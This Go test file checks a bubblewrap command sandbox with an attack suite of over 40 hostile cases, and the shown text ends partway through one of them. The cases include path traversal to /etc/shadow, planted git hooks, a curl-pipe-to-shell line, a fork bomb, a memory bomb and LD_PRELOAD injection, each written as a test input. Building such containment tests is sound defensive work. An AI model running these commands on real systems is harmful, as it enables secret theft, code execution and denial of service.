package sandbox

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// workerSecrets are set on the test process (the "worker") for the whole
// package: no sandboxed command may ever see them.
var workerSecrets = map[string]string{
	"AWS_SECRET_ACCESS_KEY": "canary-aws-secret-9f1c",
	"AWS_ACCESS_KEY_ID":     "canary-aws-id-41d0",
	"GITHUB_TOKEN":          "canary-github-token-77ab",
	"AIRLOCK_WORKER_TOKEN":  "canary-airlock-worker-5e2d",
	"SSH_AUTH_SOCK":         "/tmp/canary-ssh-agent.sock",
	"HTTPS_PROXY":           "http://canary-proxy.invalid:3128",
}

func TestMain(m *testing.M) {
	for k, v := range workerSecrets {
		os.Setenv(k, v)
	}
	if ws := os.Getenv("AIRLOCK_SANDBOX_TEST_WORKER"); ws != "" {
		// A stand-in worker process for TestWorkerKilled: it runs a long
		// command and is SIGKILLed by the test meanwhile.
		res, err := Run(context.Background(), ExecRequest{Argv: []string{"sleep", os.Getenv("AIRLOCK_SANDBOX_TEST_SECS")}, Workspace: ws}, RunOptions{})
		fmt.Println(res.ExitCode, err)
		os.Exit(3)
	}
	os.Exit(m.Run())
}

// TestWorkerKilled: when the worker process dies (SIGKILL, nothing runs in
// it any more), its sandbox dies with it.
func TestWorkerKilled(t *testing.T) {
	requireBwrap(t)
	worker := exec.Command(os.Args[0], "-test.run=^$")
	worker.Env = append(os.Environ(), "AIRLOCK_SANDBOX_TEST_WORKER="+t.TempDir(), "AIRLOCK_SANDBOX_TEST_SECS="+secs(8))
	if err := worker.Start(); err != nil {
		t.Fatal(err)
	}
	defer worker.Process.Kill()
	deadline := time.Now().Add(10 * time.Second)
	started := func() bool {
		for _, p := range procsWith("sleep " + secs(8)) {
			if strings.HasSuffix(p, ": sleep "+secs(8)) {
				return true // the command itself, not just bwrap's command line
			}
		}
		return false
	}
	for !started() {
		if time.Now().After(deadline) {
			t.Fatal("the sandboxed command never started")
		}
		time.Sleep(20 * time.Millisecond)
	}
	if err := worker.Process.Signal(syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	_ = worker.Wait()
	noProcs(t, "sleep "+secs(8)) // neither the command nor bwrap
}

// tag and secs make command lines unique to this test process, so a
// leftover check never sees another test binary's processes.
var tag = "t" + strconv.Itoa(os.Getpid())

func secs(k int) string { return strconv.Itoa(100000 + (os.Getpid()%100000)*10 + k) }

// requireBwrap fails (never skips) when bubblewrap is missing: the attack
// suite is only meaningful against the real sandbox.
func requireBwrap(t *testing.T) {
	t.Helper()
	if _, err := BwrapPath(); err != nil {
		t.Fatalf("bubblewrap is required for the sandbox tests (apt-get install bubblewrap): %v", err)
	}
}

func TestAvailable(t *testing.T) {
	requireBwrap(t)
	if err := Available(); err != nil {
		t.Fatalf("Available: %v", err)
	}
}

// attackEnv is one case's world: a workspace, a directory next to it that
// the sandbox must never reach, and a TCP listener counting connections.
type attackEnv struct {
	ws, outside string
	secretPath  string
	port        int
	conns       *atomic.Int32
	peakProcs   int // most processes matching attack.sample seen during Run
}

func (e *attackEnv) wsPath(rel string) string { return filepath.Join(e.ws, rel) }

// attack is one hostile request. It goes through Validate (refuse says
// with which reason, "" that it must pass) and then, when it passes or run
// is set, through the real sandbox, where check asserts containment. A
// refused request that is run anyway shows what the sandbox alone stops
// if a validator had a hole.
type attack struct {
	name    string
	argv    func(e *attackEnv) []string
	pol     func() Policy
	setup   func(t *testing.T, e *attackEnv)
	req     func(e *attackEnv, r *ExecRequest)
	opts    func(e *attackEnv, o *RunOptions)
	refuse  string
	run     bool
	ctx     func() (context.Context, context.CancelFunc)
	wantErr bool   // Run itself must fail (fail closed)
	sample  string // count host processes with this in their command line while Run runs
	check   func(t *testing.T, e *attackEnv, res Result)
}

func args(a ...string) func(*attackEnv) []string { return func(*attackEnv) []string { return a } }

func sh(script string) func(*attackEnv) []string {
	return func(*attackEnv) []string { return []string{"sh", "-c", script} }
}

func withPolicy(enable ...string) func() Policy {
	return func() Policy {
		p := DefaultPolicy()
		if err := p.Enable(enable...); err != nil {
			panic(err)
		}
		return p
	}
}

// testShellPolicy is the test-only policy that allows sh (and a few tools
// scripts use); the scripts it is used with are still refused by the
// validators, and the cases then prove the sandbox contains them.
func testShellPolicy() Policy {
	p := shellPolicy()
	_ = p.Enable("echo", "sleep", "true", "touch")
	return p
}

func TestAttackSuite(t *testing.T) { attackSuite(t, 0) }

// TestAttackSuiteWithQuota runs every attack again on a run with a disk
// quota (the workspace copied into a sized tmpfs and written back): the
// same containment, the same results.
func TestAttackSuiteWithQuota(t *testing.T) { attackSuite(t, 256<<20) }

func attackSuite(t *testing.T, quota int64) {
	requireBwrap(t)
	cases := attacks()
	if len(cases) < 40 {
		t.Fatalf("attack suite has %d cases, want at least 40", len(cases))
	}
	seen := map[string]bool{}
	for _, tc := range cases {
		if seen[tc.name] {
			t.Fatalf("duplicate case %q", tc.name)
		}
		seen[tc.name] = true
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			runAttack(t, tc, quota)
		})
	}
}

func runAttack(t *testing.T, tc attack, quota int64) {
	ws, outside := newWorkspace(t)
	e := &attackEnv{ws: ws, outside: outside, secretPath: filepath.Join(outside, "secret"), conns: new(atomic.Int32)}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	e.port = ln.Addr().(*net.TCPAddr).Port
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			e.conns.Add(1)
			c.Close()
		}
	}()
	if tc.setup != nil {
		tc.setup(t, e)
	}
	req := ExecRequest{Argv: tc.argv(e), Workspace: ws, Timeout: 10 * time.Second}
	if tc.req != nil {
		tc.req(e, &req)
	}
	pol := DefaultPolicy()
	if tc.pol != nil {
		pol = tc.pol()
	}

	verr := Validate(req, pol)
	if tc.refuse != "" {
		r, ok := AsRefusal(verr)
		if !ok {
			t.Fatalf("Validate(%q): want a refusal containing %q, got %v", req.Argv, tc.refuse, verr)
		}
		if !strings.Contains(r.Reason, tc.refuse) {
			t.Fatalf("Validate(%q): reason %q does not contain %q", req.Argv, r.Reason, tc.refuse)
		}
		if strings.Contains(r.Reason, e.ws) && !strings.Contains(strings.Join(req.Argv, " "), e.ws) {
			t.Errorf("refusal leaks the workspace's host path: %q", r.Reason)
		}
		if !tc.run {
			return
		}
	} else if verr != nil {
		t.Fatalf("Validate(%q): unexpected refusal: %v", req.Argv, verr)
	}

	before := snapshot(t, outside)
	opts := RunOptions{MaxProcs: 64, DiskQuota: quota}
	if tc.opts != nil {
		tc.opts(e, &opts)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	if tc.ctx != nil {
		cancel()
		ctx, cancel = tc.ctx()
	}
	defer cancel()
	stopSampling := make(chan struct{})
	sampled := make(chan int, 1)
	go func() {
		peak := 0
		for {
			if tc.sample != "" {
				peak = max(peak, len(procsWith(tc.sample)))
			}
			select {
			case <-stopSampling:
				sampled <- peak
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	}()
	res, err := Run(ctx, req, opts)
	close(stopSampling)
	e.peakProcs = <-sampled
	if tc.wantErr {
		if err == nil {
			t.Fatalf("Run: want an error (fail closed), got result %+v", res)
		}
	} else if err != nil {
		t.Fatalf("Run(%q): %v", req.Argv, err)
	}
	out := string(res.Stdout) + string(res.Stderr)
	for k, v := range workerSecrets {
		if strings.Contains(out, v) {
			t.Errorf("worker secret %s leaked into the output", k)
		}
	}
	if strings.Contains(out, "TOP-SECRET-CONTENT") {
		t.Errorf("the file outside the workspace leaked: %q", out)
	}
	if after := snapshot(t, outside); !equalSnap(before, after) {
		t.Errorf("the directory outside the workspace changed:\nbefore %v\nafter  %v", before, after)
	}
	if tc.check != nil {
		tc.check(t, e, res)
	}
	if t.Failed() || testing.Verbose() {
		t.Logf("result: exit=%d error=%q duration=%s truncated=%v peak=%d\nstdout: %.300q\nstderr: %.300q",
			res.ExitCode, res.Error, res.Duration, res.Truncated, e.peakProcs, res.Stdout, res.Stderr)
	}
}

func attacks() []attack {
	return []attack{
		// --- Path confinement -------------------------------------------
		{
			name: "traversal/dotdot", argv: args("cat", "../outside/secret"),
			refuse: "cat: path escapes the workspace: ../outside/secret", run: true, check: failed,
		},
		{
			name: "traversal/nested-dotdot", argv: args("cat", "src/pkg/../../../outside/secret"),
			refuse: "path escapes the workspace", run: true, check: failed,
		},
		{
			name: "traversal/working-dir", argv: args("cat", "secret"),
			req:    func(e *attackEnv, r *ExecRequest) { r.Dir = "../outside" },
			refuse: "path escapes the workspace",
		},
		{
			name:   "absolute/host-path-outside",
			argv:   func(e *attackEnv) []string { return []string{"cat", e.secretPath} },
			refuse: "path outside the workspace", run: true, check: failed,
		},
		{
			name: "absolute/etc-passwd", argv: args("cat", "/etc/passwd"),
			refuse: "cat: path outside the workspace: /etc/passwd", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				// The sandbox has a synthetic passwd, not the host's.
				if bytes.Contains(res.Stdout, []byte("daemon:")) || bytes.Contains(res.Stdout, []byte("/root:")) {
					t.Errorf("host /etc/passwd visible: %q", res.Stdout)
				}
			},
		},
		{
			name: "absolute/etc-shadow", argv: args("cat", "/etc/shadow"),
			refuse: "path outside the workspace", run: true, check: failedWith("No such file"),
		},
		{
			name: "absolute/ssh-keys", argv: args("ls", "-la", "/root/.ssh", "/home"),
			refuse: "path outside the workspace", run: true, check: failedWith("No such file"),
		},
		{
			name: "absolute/find-root", argv: args("find", "/", "-name", "shadow"),
			refuse: "find: path outside the workspace: /", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				if bytes.Contains(res.Stdout, []byte("/etc/shadow")) || bytes.Contains(res.Stdout, []byte(e.outside)) {
					t.Errorf("host files visible: %q", res.Stdout)
				}
			},
		},
		{
			name: "symlink/file-outside", argv: args("cat", "leak"),
			setup:  func(t *testing.T, e *attackEnv) { symlink(t, e.secretPath, e.wsPath("leak")) },
			refuse: "cat: symlink points outside the workspace: leak", run: true, check: failed,
		},
		{
			name: "symlink/dir-outside", argv: args("cat", "ldir/secret"),
			setup:  func(t *testing.T, e *attackEnv) { symlink(t, e.outside, e.wsPath("ldir")) },
			refuse: "symlink points outside the workspace", run: true, check: failed,
		},
		{
			name: "symlink/relative-chain", argv: args("head", "a"),
			setup: func(t *testing.T, e *attackEnv) {
				symlink(t, "b", e.wsPath("a"))
				symlink(t, "src/c", e.wsPath("b"))
				symlink(t, "../../outside/secret", e.wsPath("src/c"))
			},
			refuse: "symlink points outside the workspace", run: true, check: failed,
		},
		{
			name: "symlink/working-dir", argv: args("cat", "secret"),
			setup:  func(t *testing.T, e *attackEnv) { symlink(t, e.outside, e.wsPath("ldir")) },
			req:    func(e *attackEnv, r *ExecRequest) { r.Dir = "ldir" },
			refuse: "symlink points outside the workspace",
		},
		{
			name: "symlink/recursive-grep-does-not-follow", argv: args("grep", "-rn", "TOP-SECRET", "."),
			setup: func(t *testing.T, e *attackEnv) { symlink(t, e.outside, e.wsPath("src/ldir")) },
			check: func(t *testing.T, e *attackEnv, res Result) {
				if res.ExitCode == 0 {
					t.Errorf("grep found the secret through a symlink")
				}
			},
		},
		{
			name: "hardlink/file-outside", argv: args("cat", "hl"),
			setup: func(t *testing.T, e *attackEnv) {
				if err := os.Link(e.secretPath, e.wsPath("hl")); err != nil {
					t.Fatal(err)
				}
			},
			refuse: "cat: hard-linked file is not allowed: hl",
		},
		{
			name: "hardlink/sed-in-place", argv: args("sed", "-i", "s/TOP/PWNED/", "src/hl"),
			setup: func(t *testing.T, e *attackEnv) {
				if err := os.Link(e.secretPath, e.wsPath("src/hl")); err != nil {
					t.Fatal(err)
				}
			},
			refuse: "hard-linked file is not allowed",
		},
		{
			name: "write-outside/sort-output", argv: args("sort", "-o", "../outside/pwned", "README.md"),
			refuse: "sort: path escapes the workspace: ../outside/pwned", run: true, check: failed,
		},
		{
			name:   "write-outside/sed-in-place-absolute",
			argv:   func(e *attackEnv) []string { return []string{"sed", "-i", "s/TOP/PWNED/", e.secretPath} },
			refuse: "path outside the workspace", run: true, check: failed,
		},
		{
			name: "write-outside/git-C", argv: args("git", "-C", "../outside", "status"),
			refuse: "git: path escapes the workspace", run: true, check: failed,
		},

		// --- Per-command validators -------------------------------------
		{name: "find/exec", argv: args("find", ".", "-exec", "touch", "/workspace/PWNED", ";"), refuse: "find: -exec is not allowed"},
		{name: "find/execdir", argv: args("find", ".", "-name", "*.go", "-execdir", "sh", "-c", "id", ";"), refuse: "find: -execdir is not allowed"},
		{name: "find/delete", argv: args("find", ".", "-delete"), refuse: "find: -delete is not allowed"},
		{name: "find/fprint", argv: args("find", ".", "-fprint", "../outside/list"), refuse: "find: -fprint is not allowed"},
		{name: "rg/pre", argv: args("rg", "--pre", "touch", "x", "."), refuse: "rg: --pre is not allowed"},
		{name: "rg/pre-attached", argv: args("rg", "--pre=sh", "x"), refuse: "rg: --pre is not allowed"},
		{name: "rg/pre-glob", argv: args("rg", "--pre-glob", "*", "x"), refuse: "rg: --pre-glob is not allowed"},
		{name: "rg/search-zip", argv: args("rg", "-z", "x"), refuse: "rg: -z is not allowed"},
		{name: "sed/e-command", argv: args("sed", "1e touch PWNED", "README.md"), refuse: "sed: the e command (run a program) is not allowed"},
		{name: "sed/label-then-e", argv: args("sed", ":a e touch PWNED", "README.md"), refuse: "sed: the e command (run a program) is not allowed"},
		{name: "sed/version-then-e", argv: args("sed", "v 4.2 e touch PWNED", "README.md"), refuse: "sed: the e command (run a program) is not allowed"},
		{name: "sed/s-e-flag", argv: args("sed", "s/.*/touch PWNED/e", "README.md"), refuse: "sed: the s///e flag"},
		{name: "sed/w-command", argv: args("sed", "-n", "w ../outside/copy", "README.md"), refuse: "sed: the w command"},
		{name: "sed/s-w-flag", argv: args("sed", "-e", "s/x/y/w /etc/cron.d/pwn", "README.md"), refuse: "sed: the s///w flag"},
		{name: "sed/r-command", argv: args("sed", "1r /etc/shadow", "README.md"), refuse: "sed: the r command"},
		{
			name: "sed/script-file-without-sandbox", argv: args("sed", "-f", "script.sed", "README.md"),
			setup:  func(t *testing.T, e *attackEnv) { write(t, filepath.Join(e.ws, "script.sed"), "s/a/b/\n") },
			refuse: "sed: a script read from a file (-f) must run with --sandbox",
		},
		{
			// The script file is checked (benign), then rewritten by an
			// earlier command of the same script before sed reads it:
			// sed --sandbox refuses the e command itself.
			name: "sed/script-file-rewritten-after-the-check",
			argv: sh("echo '1e touch PWNED' > script.sed; sed --sandbox -f script.sed README.md; true"),
			pol:  testShellPolicy, run: true,
			setup: func(t *testing.T, e *attackEnv) { write(t, filepath.Join(e.ws, "script.sed"), "s/a/b/\n") },
			check: func(t *testing.T, e *attackEnv, res Result) {
				if _, err := os.Stat(filepath.Join(e.ws, "PWNED")); err == nil {
					t.Errorf("the rewritten script ran a program: %q", res.Stderr)
				}
				if !strings.Contains(string(res.Stderr), "sandbox mode") {
					t.Errorf("sed did not refuse in sandbox mode: %q", res.Stderr)
				}
			},
		},
		{name: "git/c-core-pager", argv: args("git", "-c", "core.pager=touch /workspace/PWNED", "log"), refuse: "git: -c is not allowed"},
		{name: "git/config-env", argv: args("git", "--config-env=core.sshCommand=EVIL", "status"), refuse: "git: --config-env is not allowed"},
		{name: "git/exec-path", argv: args("git", "--exec-path=.", "status"), refuse: "git: --exec-path is not allowed"},
		{name: "git/output-outside", argv: args("git", "log", "--output=../outside/pwned"), refuse: "git log: --output is not allowed"},
		{name: "git/grep-open-files-in-pager", argv: args("git", "grep", "-O", "touch PWNED", "x"), refuse: "git grep: -O is not allowed"},
		{name: "git/upload-pack", argv: args("git", "ls-remote", "--upload-pack=touch PWNED", "."), refuse: "git: subcommand ls-remote is not allowed"},
		{name: "git/push", argv: args("git", "push", "origin", "main"), refuse: "git: subcommand push is not allowed"},
		{name: "wrapper/env", argv: args("env", "LD_PRELOAD=x", "ls"), refuse: "env is not allowed"},
		{name: "wrapper/xargs", argv: args("xargs", "-a", "README.md", "touch"), refuse: "xargs is not allowed"},
		{name: "awk/not-default", argv: args("awk", "BEGIN{system(\"id\")}"), refuse: "command not allowed: awk"},
		{name: "awk/system", argv: args("awk", "BEGIN{system(\"id\")}"), pol: withPolicy("awk"), refuse: "awk: system is not allowed"},
		{name: "tar/to-command", argv: args("tar", "-xf", "a.tar", "--to-command=sh"), pol: withPolicy("tar"), refuse: "tar: --to-command is not allowed"},
		{name: "sort/compress-program", argv: args("sort", "--compress-program=sh", "README.md"), refuse: "sort: --compress-program is not allowed"},

		// --- Git repositories with planted programs ---------------------
		{
			name: "git/planted-post-checkout-hook", argv: args("git", "checkout", "-b", "feature"),
			setup: func(t *testing.T, e *attackEnv) {
				initRepo(t, e.ws)
				plantHooks(t, e.ws, "post-checkout", "reference-transaction")
			},
			check: func(t *testing.T, e *attackEnv, res Result) {
				succeeded(t, e, res)
				if b := hostGit(t, e.ws, "rev-parse", "--abbrev-ref", "HEAD"); b != "feature" {
					t.Errorf("checkout did not happen (HEAD %q), so the hook was never triggered", b)
				}
				noMarker(t, e, "HOOK-RAN")
			},
		},
		{
			name: "git/planted-commit-hooks", argv: args("git", "commit", "-am", "change"),
			setup: func(t *testing.T, e *attackEnv) {
				initRepo(t, e.ws)
				write(t, e.wsPath("README.md"), "changed\n")
				plantHooks(t, e.ws, "pre-commit", "commit-msg", "post-commit", "prepare-commit-msg")
			},
			check: func(t *testing.T, e *attackEnv, res Result) {
				succeeded(t, e, res)
				if s := hostGit(t, e.ws, "log", "-1", "--format=%s"); s != "change" {
					t.Errorf("commit did not happen (last subject %q)", s)
				}
				noMarker(t, e, "HOOK-RAN")
			},
		},
		{
			name: "git/core-fsmonitor", argv: args("git", "status"),
			setup: func(t *testing.T, e *attackEnv) {
				initRepo(t, e.ws)
				hostGit(t, e.ws, "config", "core.fsmonitor", "touch /workspace/FSMONITOR-RAN; false")
			},
			refuse: "git: the repository's config sets core.fsmonitor", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				succeeded(t, e, res)
				noMarker(t, e, "FSMONITOR-RAN")
			},
		},
		{
			name: "git/gitattributes-filter", argv: args("git", "add", "-A"),
			setup: func(t *testing.T, e *attackEnv) {
				initRepo(t, e.ws)
				hostGit(t, e.ws, "config", "filter.evil.clean", "touch /workspace/FILTER-RAN; cat")
				hostGit(t, e.ws, "config", "filter.evil.smudge", "touch /workspace/FILTER-RAN; cat")
				write(t, e.wsPath(".gitattributes"), "* filter=evil\n")
				write(t, e.wsPath("new.txt"), "new\n")
			},
			refuse: "git: the repository's config sets filter.evil.clean", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				noMarker(t, e, "FILTER-RAN")
			},
		},
		{
			name: "git/diff-textconv-and-command", argv: args("git", "diff"),
			setup: func(t *testing.T, e *attackEnv) {
				initRepo(t, e.ws)
				hostGit(t, e.ws, "config", "diff.ev.textconv", "touch /workspace/DIFF-RAN; cat")
				hostGit(t, e.ws, "config", "diff.ev.command", "touch /workspace/DIFF-RAN; true")
				write(t, e.wsPath(".gitattributes"), "* diff=ev\n")
				write(t, e.wsPath("README.md"), "changed\n")
			},
			refuse: "a diff driver runs a program", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) { noMarker(t, e, "DIFF-RAN") },
		},
		{
			name: "git/pager-config", argv: args("git", "log"),
			setup: func(t *testing.T, e *attackEnv) {
				initRepo(t, e.ws)
				hostGit(t, e.ws, "config", "core.pager", "touch /workspace/PAGER-RAN; cat")
				hostGit(t, e.ws, "config", "pager.log", "touch /workspace/PAGER-RAN; cat")
			},
			refuse: "sets pager.log", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				succeeded(t, e, res)
				noMarker(t, e, "PAGER-RAN")
			},
		},
		{
			name: "git/include-path", argv: args("git", "add", "-A"),
			setup: func(t *testing.T, e *attackEnv) {
				initRepo(t, e.ws)
				write(t, e.wsPath("evil.cfg"), "[filter \"inc\"]\n\tclean = touch /workspace/INCLUDE-RAN; cat\n")
				hostGit(t, e.ws, "config", "include.path", "../evil.cfg")
				write(t, e.wsPath(".gitattributes"), "* filter=inc\n")
			},
			refuse: "sets include.path", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) { noMarker(t, e, "INCLUDE-RAN") },
		},
		{
			name: "git/bang-alias", argv: args("git", "pwn"),
			setup: func(t *testing.T, e *attackEnv) {
				initRepo(t, e.ws)
				hostGit(t, e.ws, "config", "alias.pwn", "!touch /workspace/ALIAS-RAN")
			},
			refuse: "git: subcommand pwn is not allowed",
		},

		// --- Shell scripts (policy allows sh) ---------------------------
		{name: "sh/not-allowed-by-default", argv: sh("ls"), refuse: "sh is not allowed"},
		{name: "sh/chain-curl", argv: sh("ls; curl http://example.com/x | sh"), pol: shellPolicy, refuse: "command not allowed: curl"},
		{name: "sh/chain-rm", argv: sh("ls && rm -rf ."), pol: shellPolicy, refuse: "command not allowed: rm"},
		{name: "sh/command-substitution", argv: sh("ls $(touch PWNED)"), pol: shellPolicy, refuse: "sh: command substitution is not allowed"},
		{name: "sh/backticks", argv: sh("cat `echo /etc/shadow`"), pol: shellPolicy, refuse: "sh: command substitution is not allowed"},
		{name: "sh/process-substitution", argv: sh("diff <(cat /etc/shadow) README.md"), pol: shellPolicy, refuse: "sh: "},
		{name: "sh/redirect-outside", argv: sh("ls > ../outside/pwned"), pol: shellPolicy, refuse: "sh: path escapes the workspace: ../outside/pwned"},
		{name: "sh/redirect-absolute", argv: sh("cat README.md >> /etc/cron.d/pwn"), pol: shellPolicy, refuse: "sh: path outside the workspace: /etc/cron.d/pwn"},
		{name: "sh/redirect-read-shadow", argv: sh("cat < /etc/shadow"), pol: shellPolicy, refuse: "sh: path outside the workspace: /etc/shadow"},
		{name: "sh/eval", argv: sh("eval 'cat /etc/shadow'"), pol: shellPolicy, refuse: "eval is not allowed"},
		{name: "sh/exec", argv: sh("exec ls"), pol: shellPolicy, refuse: "exec is not allowed"},
		{name: "sh/source", argv: sh(". ./evil.sh"), pol: shellPolicy, refuse: "is not allowed (a shell builtin that runs a file)"},
		{name: "sh/function", argv: sh("f() { cat /etc/shadow; }; f"), pol: shellPolicy, refuse: "sh: functions are not allowed"},
		{name: "sh/background", argv: sh("ls & ls"), pol: shellPolicy, refuse: "sh: background jobs (&) are not allowed"},
		{name: "sh/path-assignment", argv: sh("PATH=/workspace ls"), pol: shellPolicy, refuse: "sh: assignment: PATH is not allowed"},
		{name: "sh/ld-preload-assignment", argv: sh("LD_PRELOAD=/workspace/x.so ls"), pol: shellPolicy, refuse: "LD_PRELOAD is not allowed (dynamic loader"},
		{name: "sh/env-wrapper", argv: sh("ls | env sh"), pol: shellPolicy, refuse: "env is not allowed"},
		{name: "sh/xargs-wrapper", argv: sh("find . | xargs rm"), pol: shellPolicy, refuse: "xargs is not allowed"},
		{
			name: "sh/wildcard-injection", argv: sh("rg x *"), pol: shellPolicy,
			setup:  func(t *testing.T, e *attackEnv) { write(t, e.wsPath("--pre=sh"), "") },
			refuse: "a glob must not start with a wildcard",
		},
		{
			name: "sh/glob-through-symlink", argv: sh("cat ./l*"), pol: shellPolicy,
			setup:  func(t *testing.T, e *attackEnv) { symlink(t, e.secretPath, e.wsPath("leak")) },
			refuse: "symlink points outside the workspace", run: true, check: failed,
		},

		// --- What only the sandbox can stop -----------------------------
		{
			name: "runtime/write-outside-workspace",
			argv: func(e *attackEnv) []string {
				return []string{"sh", "-c", "echo pwned > " + e.secretPath + "; echo pwned > /pwned"}
			},
			pol:    testShellPolicy,
			refuse: "path outside the workspace", run: true, check: failed,
		},
		{
			name: "runtime/write-system-dirs", argv: sh("touch /usr/bin/airlock-pwned /etc/airlock-pwned /airlock-pwned; echo done"),
			pol: testShellPolicy, refuse: "touch: path outside the workspace: /usr/bin/airlock-pwned", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				for _, p := range []string{"/usr/bin/airlock-pwned", "/etc/airlock-pwned", "/airlock-pwned"} {
					if _, err := os.Stat(p); err == nil {
						os.Remove(p)
						t.Errorf("%s was created on the host", p)
					}
				}
				if !bytes.Contains(res.Stderr, []byte("Read-only file system")) {
					t.Errorf("want read-only errors, stderr %q", res.Stderr)
				}
			},
		},
		{
			name: "runtime/network-not-allowed",
			argv: func(e *attackEnv) []string {
				return []string{"git", "ls-remote", "http://127.0.0.1:" + strconv.Itoa(e.port) + "/repo.git"}
			},
			refuse: "git: subcommand ls-remote is not allowed", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				failed(t, e, res)
				time.Sleep(200 * time.Millisecond)
				if n := e.conns.Load(); n != 0 {
					t.Errorf("the listener outside the sandbox got %d connection(s)", n)
				}
			},
		},
		{
			name: "runtime/network-request-refused", argv: args("ls"),
			req:    func(e *attackEnv, r *ExecRequest) { r.Network = true },
			refuse: "network access is not allowed",
		},
		{
			// Control for the case above: with the network shared the same
			// command does reach the listener, so a zero count means
			// something.
			name: "runtime/network-control-when-allowed",
			argv: func(e *attackEnv) []string {
				return []string{"git", "ls-remote", "http://127.0.0.1:" + strconv.Itoa(e.port) + "/repo.git"}
			},
			req:    func(e *attackEnv, r *ExecRequest) { r.Network = true },
			refuse: "network access is not allowed", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				deadline := time.Now().Add(2 * time.Second)
				for e.conns.Load() == 0 && time.Now().Before(deadline) {
					time.Sleep(20 * time.Millisecond)
				}
				if e.conns.Load() == 0 {
					t.Errorf("with Network the listener got no connection: the no-network case proves nothing")
				}
			},
		},
		{
			name: "runtime/worker-env-not-visible", argv: args("printenv"),
			check: func(t *testing.T, e *attackEnv, res Result) {
				succeeded(t, e, res)
				env := string(res.Stdout)
				for k := range workerSecrets {
					if strings.Contains(env, k+"=") {
						t.Errorf("%s is visible inside the sandbox", k)
					}
				}
				for _, want := range []string{"HOME=/tmp", "PATH=" + sandboxPath, "GIT_CONFIG_KEY_0=core.hooksPath"} {
					if !strings.Contains(env, want+"\n") {
						t.Errorf("environment lacks %s", want)
					}
				}
			},
		},
		{
			name: "runtime/request-env-secrets", argv: args("printenv"),
			req: func(e *attackEnv, r *ExecRequest) {
				r.Env = map[string]string{"AWS_SECRET_ACCESS_KEY": "req-canary-aws", "LD_PRELOAD": "/workspace/x.so", "HTTP_PROXY": "req-canary-proxy"}
			},
			refuse: "env: ", run: true,
			check: func(t *testing.T, e *attackEnv, res Result) {
				for _, v := range []string{"req-canary-aws", "/workspace/x.so", "req-canary-proxy"} {
					if bytes.Contains(res.Stdout, []byte(v)) {
						t.Errorf("request variable %q reached the sandbox", v)
					}
				}
			},
		},
		{
			// The bomb forks as fast as it can while the main shell spins
			// (without forking) until the timeout: the process count stays
			// at the limit, Run returns in time and nothing is left. The
			// bomb starts in the background: were the main shell to fork
			// it, dash would exit at its first failed fork, possibly
			// before the sampler ever saw the bomb.
			name: "runtime/fork-bomb", argv: sh("f() { f | f & }; f & while :; do :; done # bomb-" + tag),
			pol: testShellPolicy, refuse: "sh: functions are not allowed", run: true,
			req:    func(e *attackEnv, r *ExecRequest) { r.Timeout = 3 * time.Second },
			opts:   func(e *attackEnv, o *RunOptions) { o.MaxProcs = 48 },
			sample: "bomb-" + tag,
			check: func(t *testing.T, e *attackEnv, res Result) {
				// The timeout ends it.
				if res.Duration > 6*time.Second || (res.Error == "" && res.ExitCode == 0) {
					t.Errorf("exit %d, error %q after %s", res.ExitCode, res.Error, res.Duration)
				}
				// The population churns (a shell that cannot fork exits), so
				// the sampled peak only has an upper bound; the fork
				// failures show the bomb reached the limit.
				if e.peakProcs > 48 || e.peakProcs == 0 {
					t.Errorf("peak of %d bomb processes, want some and at most the limit of 48", e.peakProcs)
				}
				if !bytes.Contains(res.Stderr, []byte("fork")) {
					t.Errorf("want fork failures on stderr")
				}
				noProcs(t, "bomb-"+tag)
			},
		},
		{
			// tail -c keeps the last N bytes of a pipe in memory: asked
			// for 1 GiB it must fail at the data limit, not take the host's
			// memory.
			name: "runtime/memory-bomb", argv: sh("head -c 1073741824 /dev/zero | tail -c 1073741824 | wc -c"),
			pol: testShellPolicy, refuse: "head: path outside the workspace: /dev/zero", run: true,
			opts: func(e *attackEnv, o *RunOptions) { o.MaxMemory = 64 << 20 },
			check: func(t *testing.T, e *attackEnv, res Result) {
				if !bytes.Contains(res.Stderr, []byte("memory exhausted")) {
					t.Errorf("want tail to run out of memory, stderr %q", res.Stderr)
				}
				if got := strings.TrimSpace(string(res.Stdout)); got == "1073741824" {
					t.Errorf("tail held 1 GiB")
				}
			},
		},
		{
			name: "runtime/process-limit-holds",
			// Counting uses builtins only (set, echo): no slot is free
			// to fork anything once the sleeps hold them all.
			argv: sh("seq 1 200 | while read i; do sleep " + secs(7) + " & done; set -- /proc/[0-9]*; echo $#"),
			pol:  testShellPolicy, refuse: "command not allowed: seq", run: true,
			opts: func(e *attackEnv, o *RunOptions) { o.MaxProcs = 32 },
			check: func(t *testing.T, e *attackEnv, res Result) {
				n, err := strconv.Atoi(strings.TrimSpace(string(res.Stdout)))
				if err != nil {
					t.Fatalf("no process count: %q (stderr %q)", res.Stdout, res.Stderr)
				}
				if n > 32 || n < 16 {
					t.Errorf("%d processes in the sandbox, want between 16 and the limit of 32", n)
				}
				if !bytes.Contains(res.Stderr, []byte("fork")) {
					t.Errorf("want fork failures on stderr, got %q", res.Stderr)
				}
				noProcs(t, "sleep "+secs(7))
			},
		},
		{
			name: "runtime/runaway-output-cat", argv: args("cat", "big.txt"),
			setup: func(t *testing.T, e *attackEnv) {
				var b strings.Builder
				for i := 0; b.Len() < 4<<20; i++ {
					fmt.Fprintf(&b, "line %08d of a large file\n", i)
				}
				write(t, e.wsPath("big.txt"), b.String())
			},
